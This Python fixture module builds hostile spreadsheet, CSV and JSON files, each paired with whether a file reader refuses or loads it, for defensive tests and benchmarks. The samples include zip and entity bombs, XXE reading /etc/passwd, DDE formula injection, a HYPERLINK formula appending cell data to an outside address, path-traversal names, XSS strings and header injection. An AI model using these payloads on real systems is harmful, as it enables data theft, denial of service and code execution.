"""Files made to break a reader, each with what must become of it: refused, or loaded with rows.

Shared by the tests and by `python -m bench.hostile_files`, which measures time and memory.
"""

from __future__ import annotations

import codecs
import io
import struct
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import partial
from typing import Final

from openpyxl import Workbook

LOADED: Final = ""
"""Instead of a reason to refuse: the file is read, every row is a record or named."""

_SHEET: Final = "xl/worksheets/sheet1.xml"
_OLE: Final = bytes.fromhex("d0cf11e0a1b11ae1")
_MAIN: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_HEAD: Final = "名称,電話番号,備考\n"
_ROW: Final = "甲相談所,048-123-4567,見本\n"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """One file: what it is, its name, its bytes when asked for, and the reason of its refusal.

    `code` is the last part of the problem's code, `LOADED` for a file that is read.
    """

    title: str
    name: str
    make: Callable[[], bytes]
    code: str


def make_book(*rows: tuple[str, ...], sheet: str = "機関") -> bytes:
    """The bytes of a workbook with one sheet of agencies."""
    book = Workbook()
    page = book.worksheets[0]
    page.title = sheet
    page.append(("名称", "電話番号", "備考"))
    for row in rows or (("甲相談所", "048-123-4567", "見本"),):
        page.append(list(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def change_part(data: bytes, part: str, edit: Callable[[bytes], bytes]) -> bytes:
    """The same archive with one part edited, or added."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in dict.fromkeys((*old.namelist(), part)):
            content = old.read(name) if name in old.namelist() else b""
            new.writestr(name, edit(content) if name == part else content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def _edit(part: str, before: str, after: str) -> bytes:
    return change_part(make_book(), part, lambda old: old.replace(before.encode(), after.encode()))


def _put_in_sheet(xml: str) -> bytes:
    return _edit(_SHEET, "</sheetData>", xml + "</sheetData>")


def _archive(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _nest(depth: int) -> bytes:
    data = bytes(1_000_000)
    for _ in range(depth):
        data = _archive(**{"xl/workbook.xml": b"<w/>", **{f"{n}.zip": data for n in range(8)}})
    return data


def _declare(text: str) -> bytes:
    return change_part(
        make_book(), _SHEET, lambda old: b"<?xml version='1.0'?>" + text.encode() + old[55:]
    )


def _bomb_of_entities() -> bytes:
    levels = [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12)]
    return _declare(f'<!DOCTYPE x [<!ENTITY e0 "boom">{"".join(levels)}]>')


def _share(text: str, cells: int) -> bytes:
    """A text stored once and shown in many cells."""
    rows = '<row><c t="s"><v>2</v></c></row>' * cells
    head = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
    sheet = f'<worksheet xmlns="{_MAIN}"><sheetData>{head}{rows}</sheetData></worksheet>'
    items = "".join(f"<si><t>{each}</t></si>" for each in ("名称", "備考", text))
    data = change_part(make_book(), _SHEET, lambda _: sheet.encode())
    data = change_part(data, "xl/sharedStrings.xml", lambda _: f"<sst>{items}</sst>".encode())
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
    link = f'<Relationship Id="rId9" Type="{kind}" Target="sharedStrings.xml"/></Relationships>'
    return change_part(
        data,
        "xl/_rels/workbook.xml.rels",
        lambda old: old.replace(b"</Relationships>", link.encode()),
    )


def pack_old(stream: bytes) -> bytes:
    """An OLE document with one stream, Workbook, of at most some megabytes."""
    stream += bytes(max(4_096 - len(stream), -len(stream) % 512))
    count = len(stream) // 512
    fats = -(-(count + 1) // 127)  # each table also holds its own sector and the directory's
    chain = [*range(1, count), 0xFFFFFFFE, 0xFFFFFFFE, *[0xFFFFFFFD] * fats]
    chain += [0xFFFFFFFF] * (fats * 128 - len(chain))
    places = [count + 1 + n for n in range(fats)] + [0xFFFFFFFF] * (109 - fats)
    head = struct.pack(
        "<8s16sHHHHH6xIIIIIIIII109I", _OLE, b"", 0x3E, 3, 0xFFFE, 9, 6, 0, fats, count, 0, 4_096,
        0xFFFFFFFE, 0, 0xFFFFFFFE, 0, *places,
    )  # fmt: skip
    entries = _entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1) + _entry(
        "Workbook", 2, 0, len(stream)
    )
    return head + stream + entries + bytes(256) + struct.pack(f"<{len(chain)}I", *chain)


def _entry(name: str, kind: int, start: int, size: int, child: int = 0xFFFFFFFF) -> bytes:
    letters = name.encode("utf-16-le") + b"\0\0"
    return struct.pack(
        "<64sHBBIII16xIQQIQ", letters, len(letters), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child,
        0, 0, 0, start, size,
    )  # fmt: skip


def _record(kind: int, content: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(content)) + content


def make_old_book(texts: Sequence[str], *sheets: bytes) -> bytes:
    """An .xls whose sheets, given as records of cells, show `texts` by number."""
    begin = struct.pack("<HHHHII", 0x600, 0x10, 0, 0, 0, 0)
    names = [f"s{number}".encode() for number in range(len(sheets))]
    shared = b"".join(struct.pack("<HB", len(text), 1) + text.encode("utf-16-le") for text in texts)
    table = _record(0xFC, struct.pack("<II", len(texts), len(texts)) + shared)
    start = sum(len(part) for part in (_record(0x809, begin), table, _record(0xA)))
    start += sum(12 + len(name) for name in names)
    bounds, bodies = b"", b""
    for name, cells in zip(names, sheets, strict=True):
        place = start + len(bodies)
        bounds += _record(0x85, struct.pack("<IHBB", place, 0, len(name), 0) + name)
        sheet = struct.pack("<HHHHII", 0x600, 0x10, 0, 0, 0, 0)
        bodies += _record(0x809, sheet) + cells + _record(0xA)
    begin = struct.pack("<HHHHII", 0x600, 0x5, 0, 0, 0, 0)
    return pack_old(_record(0x809, begin) + bounds + table + _record(0xA) + bodies)


def show_text(row: int, column: int, number: int) -> bytes:
    """The record of a cell of an .xls that shows a shared text."""
    return _record(0xFD, struct.pack("<HHHI", row, column, 0, number))


def _far_corners(sheets: int) -> bytes:
    corners = show_text(0, 0, 0) + show_text(65_535, 255, 1)
    return make_old_book(("名称", "備考"), *[corners] * sheets)


def _repeat_old_text() -> bytes:
    head = show_text(0, 0, 0) + show_text(0, 1, 1)
    cells = b"".join(show_text(row, 0, 2) for row in range(1, 60_000))
    return make_old_book(("名称", "備考", "長" * 4_000), head + cells)


def _protect() -> bytes:
    return _OLE + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(5_000)


def _macro_book() -> bytes:
    typed = _edit("[Content_Types].xml", ".sheet.main", ".sheet.macroEnabled.main")
    return change_part(typed, "xl/vbaProject.bin", lambda _: b"Attribute VB_Name")


def _double_sheet_name() -> bytes:
    book = Workbook()
    for title in ("機関", "機関2"):
        page = book.create_sheet(title)
        page.append(("名称", "電話番号"))
        page.append((f"相談所 {title}", "048-123-4567"))
    buffer = io.BytesIO()
    book.save(buffer)
    return change_part(
        buffer.getvalue(),
        "xl/workbook.xml",
        lambda old: old.replace("機関2".encode(), "機関".encode()),
    )


def _double_member() -> bytes:
    buffer = io.BytesIO(make_book())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(_SHEET.upper(), "<worksheet/>")
    return buffer.getvalue()


def _lie_about_size() -> bytes:
    data = change_part(make_book(), _SHEET, lambda part: part + b" " * 1_000_000)
    directory = data.rindex(b"PK\x01\x02", 0, data.rindex(_SHEET.encode()))
    lying = bytearray(data)
    lying[directory + 24 : directory + 28] = (500).to_bytes(4, "little")
    return bytes(lying)


def _compress_otherwise() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(make_book())) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name), zipfile.ZIP_LZMA)
    return buffer.getvalue()


def _formulas() -> bytes:
    return make_book(
        ('=HYPERLINK("http://192.0.2.1/"&B2,"甲相談所")', "=1+1", "=cmd|' /C calc'!A0"),
        ("乙相談所", "048-123-4567", "@SUM(1+1)*cmd|' /C calc'!A0"),
    )


def _link_outside() -> bytes:
    link = '<hyperlinks><hyperlink ref="A2" r:id="rId1" xmlns:r="urn:r"/></hyperlinks></worksheet>'
    return _edit(_SHEET, "</worksheet>", link)


def _far_cell(place: str) -> bytes:
    number = place.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    return _put_in_sheet(f'<row r="{number}"><c r="{place}"><v>1</v></c></row>')


def _text(body: str, encoding: str = "utf-8") -> bytes:
    return body.encode(encoding)


def _list_archives() -> Iterator[HostileFile]:
    def padded() -> bytes:
        return change_part(make_book(), _SHEET, lambda part: part + b" " * 150_000_000)

    yield HostileFile("zip bomb", "a.xlsx", padded, "too_large_unpacked")
    yield HostileFile("archives in archives", "a.xlsx", lambda: _nest(4), "damaged")
    yield HostileFile("2,500 members", "a.xlsx", lambda: _archive(
        **{"xl/workbook.xml": b"<w/>"}, **{f"{n}.xml": b"" for n in range(2_500)}),
        "too_large_unpacked")  # fmt: skip
    yield HostileFile("a size that lies", "a.xlsx", _lie_about_size, "damaged")
    yield HostileFile("a member twice", "a.xlsx", _double_member, "damaged")
    yield HostileFile("other compression", "a.xlsx", _compress_otherwise, "damaged")
    for share in (3, 20, 50, 80, 99):
        yield HostileFile(f"cut at {share} %", "a.xlsx", partial(_cut, share), "damaged")
    yield HostileFile("member names that climb", "a.xlsx", lambda: change_part(
        make_book(), "../../../../etc/cron.d/x.xml", lambda _: b"<x/>"), LOADED)  # fmt: skip
    yield HostileFile("another document", "a.xlsx",
                      lambda: _archive(**{"word/document.xml": b"<w/>"}), "wrong_type")  # fmt: skip
    yield HostileFile("a bare archive", "a.zip", lambda: _archive(a=b"x"), "wrong_type")
    yield HostileFile("data set bomb", "hsds.zip", lambda: _archive(
        **{f"{name}.csv": b"id,name\n" + b" " * 20_000_000
           for name in ("organizations", "services", "phones")}), "package_too_large")  # fmt: skip


def _list_books() -> Iterator[HostileFile]:
    yield HostileFile("entity bomb", "a.xlsx", _bomb_of_entities, "xml_declaration")
    yield HostileFile("external entity", "a.xlsx", lambda: _declare(
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'), "xml_declaration")  # fmt: skip
    yield HostileFile("external DTD", "a.xlsx", lambda: _declare(
        '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">'), "xml_declaration")  # fmt: skip
    yield HostileFile("macros", "a.xlsm", _macro_book, "macros")
    yield HostileFile("macros in an old book", "a.xls", lambda: _OLE + bytes(504)
                      + "_VBA_PROJECT".encode("utf-16-le") + bytes(900), "macros")  # fmt: skip
    yield HostileFile("password", "a.xlsx", _protect, "encrypted")
    yield HostileFile("an OLE shell", "a.xls", lambda: _OLE + bytes(9_000), "wrong_type")
    yield HostileFile("an old book cut off", "a.xls", lambda: _OLE + bytes(504)
                      + "Workbook".encode("utf-16-le") + bytes(900), "damaged")  # fmt: skip
    yield HostileFile("an old book", "a.xls", lambda: make_old_book(
        ("名称", "備考", "甲"), b"".join(show_text(*cell) for cell in
        ((0, 0, 0), (0, 1, 1), (1, 0, 2)))), LOADED)  # fmt: skip
    yield HostileFile("an old book of far corners", "a.xls", lambda: _far_corners(1),
                      "too_large_unpacked")  # fmt: skip
    yield HostileFile("an old book of many far corners", "a.xls", lambda: _far_corners(40),
                      "too_large_unpacked")  # fmt: skip
    yield HostileFile("an old book that repeats a text", "a.xls", _repeat_old_text,
                      "too_large_unpacked")  # fmt: skip
    yield HostileFile("claimed size", "a.xlsx", lambda: _edit(
        _SHEET, 'ref="A1:C2"', 'ref="A1:XFD1048576"'), "too_many_rows")  # fmt: skip
    yield HostileFile("far row", "a.xlsx", lambda: _far_cell("A1048576"), "too_many_rows")
    yield HostileFile("far column", "a.xlsx", lambda: _far_cell("XFD9"), "too_many_columns")
    yield HostileFile("a million empty rows", "a.xlsx",
                      lambda: _put_in_sheet("<row/>" * 1_000_000), LOADED)  # fmt: skip
    yield HostileFile("millions of empty cells", "a.xlsx",
                      lambda: _put_in_sheet("<row>" + "<c/>" * 11_000_000 + "</row>"),
                      "too_large_unpacked")  # fmt: skip
    yield HostileFile(
        "deep nesting", "a.xlsx", lambda: _put_in_sheet("<a>" * 200_000 + "</a>" * 200_000), LOADED
    )
    yield HostileFile("shared text bomb", "a.xlsx",
                      lambda: _share("x" * 32_000, 100_000), "too_large_unpacked")  # fmt: skip
    yield HostileFile("many cells of text", "a.xlsx", lambda: make_wide_book(480, 2_100),
                      "too_large_unpacked")  # fmt: skip
    yield HostileFile("doubled sheet names", "a.xlsx", _double_sheet_name, LOADED)
    yield HostileFile("formulas and DDE", "a.xlsx", _formulas, LOADED)
    yield HostileFile("link outside", "a.xlsx", _link_outside, LOADED)
    yield HostileFile("NUL in XML", "a.xlsx", lambda: _edit(_SHEET, "<row", "\0<row"), "damaged")
    yield HostileFile("a very long cell", "a.xlsx", lambda: _share("長" * 32_767, 2), LOADED)
    yield HostileFile("sheet name of markup", "a.xlsx", lambda: _edit(
        "xl/workbook.xml", "機関", "&lt;script&gt;"), LOADED)  # fmt: skip


def _cut(share: int) -> bytes:
    data = make_book()
    return data[: len(data) * share // 100]


def make_wide_book(columns: int, rows: int) -> bytes:
    """A workbook full of short texts written in the cells themselves."""
    cell = '<c t="inlineStr"><is><t>ab</t></is></c>'
    body = f"<row>{cell * columns}</row>" * rows
    return _put_in_sheet(body)


def _list_texts() -> Iterator[HostileFile]:
    good = _HEAD + _ROW
    yield HostileFile("PDF named workbook", "a.xlsx", lambda: b"%PDF-1.7\n%\xe2\xe3", "wrong_type")
    yield HostileFile("picture named text", "a.csv", lambda: b"\x89PNG\r\n\x1a\n", "wrong_type")
    yield HostileFile("web page", "a.csv", lambda: b"<html><script>1</script>", "wrong_type")
    yield HostileFile("text named workbook", "a.xlsx", lambda: _text(good), LOADED)
    yield HostileFile("workbook named text", "a.csv", make_book, LOADED)
    yield HostileFile("nothing", "a.csv", lambda: b"", "empty")
    yield HostileFile("only a mark", "a.csv", lambda: codecs.BOM_UTF8, "no_header")
    yield HostileFile("only a wide mark", "a.csv", lambda: codecs.BOM_UTF16_LE, "no_header")
    yield HostileFile("only white space", "a.csv", lambda: b" \r\n" * 1_000, "empty")
    yield HostileFile("UTF-16", "a.csv", lambda: _text(good, "utf-16"), LOADED)
    yield HostileFile("UTF-16 cut in a letter", "a.csv",
                      lambda: _text(good, "utf-16")[:-1], "damaged")  # fmt: skip
    yield HostileFile("NUL bytes", "a.csv", lambda: _text(good + "乙\0相談所,,\n"), "wrong_type")
    yield HostileFile("replacement characters", "a.csv",
                      lambda: _text(_HEAD + "\ufffd\ufffd相談所,,\n"), LOADED)  # fmt: skip
    yield HostileFile("bytes of no encoding", "a.csv",
                      lambda: b"\x81\xff\xff\xa0\x80" * 99, "unknown_encoding")  # fmt: skip
    yield HostileFile("ragged rows", "a.csv",
                      lambda: _text(good + "乙相談所,1,2,3,4\n丙相談所\n"), LOADED)  # fmt: skip
    yield HostileFile("100,000 columns", "a.csv",
                      lambda: _text("名称,電話番号" + ",x" * 100_000 + "\n"),
                      "too_many_columns")  # fmt: skip
    yield HostileFile(
        "a line of 10 MB",
        "a.csv",
        lambda: _text(_HEAD + "甲" * 3_300_000 + ",,\n"),
        "broken_quotes",
    )
    yield HostileFile("a quotation mark never closed", "a.csv",
                      lambda: _text(_HEAD + '"' + _ROW * 100_000), "broken_quotes")  # fmt: skip
    yield HostileFile("300,000 rows", "a.csv", lambda: _text(_HEAD + _ROW * 300_000),
                      "too_many_rows")  # fmt: skip
    yield HostileFile("five million cells", "a.csv",
                      lambda: _text(_HEAD + ",".join(["ab"] * 480) * 1 + "\n"
                                    + (",".join(["ab"] * 480) + "\n") * 10_000),
                      "too_many_cells")  # fmt: skip
    yield HostileFile(
        "wide letters",
        "a.csv",
        lambda: _text(_HEAD + ("𠮷野家," + "a" * 80 + ",\n") * 30_000),
        LOADED,
    )
    yield HostileFile("60 MB", "a.csv", lambda: _text(good) + b" " * 60_000_000, "too_large")
    yield HostileFile("deep JSON", "a.json", lambda: b"[" * 100_000, "bad_json")
    yield HostileFile("JSON of another kind", "a.json", lambda: b'{"a": 1}', "unknown_json")
    yield HostileFile("formulas in text", "a.csv",
                      lambda: _text(_HEAD + "=1+1,+1,@x\n-2,\t=1,\x0b=1\n"), LOADED)  # fmt: skip
    yield HostileFile("markup as a name", "a.csv", lambda: _text(
        _HEAD + "<img src=x onerror=alert(1)>,,\n"), LOADED)  # fmt: skip
    yield HostileFile("letters that turn the line", "a.csv",
                      lambda: _text(_HEAD + "甲\u202e所談相\u2066,,\n"), LOADED)  # fmt: skip


def _list_names() -> Iterator[HostileFile]:
    good = _HEAD + _ROW
    names = {
        "a name that climbs": "../../../etc/passwd.csv",
        "a name with a drive": "C:\\Windows\\x.csv",
        "a name that turns": "a\u202evsc.exe.csv",
        "a name of markup": "<script>alert(1)</script>.csv",
        "a name with NUL": "a\0.csv",
        "a name with a line end": "a\r\nSet-Cookie: x.csv",
        "a very long name": "長" * 3_000 + ".csv",
        "no name": "",
    }
    for title, name in names.items():
        yield HostileFile(title, name, lambda: _text(good), LOADED)


FILES: Final = (*_list_archives(), *_list_books(), *_list_texts(), *_list_names())
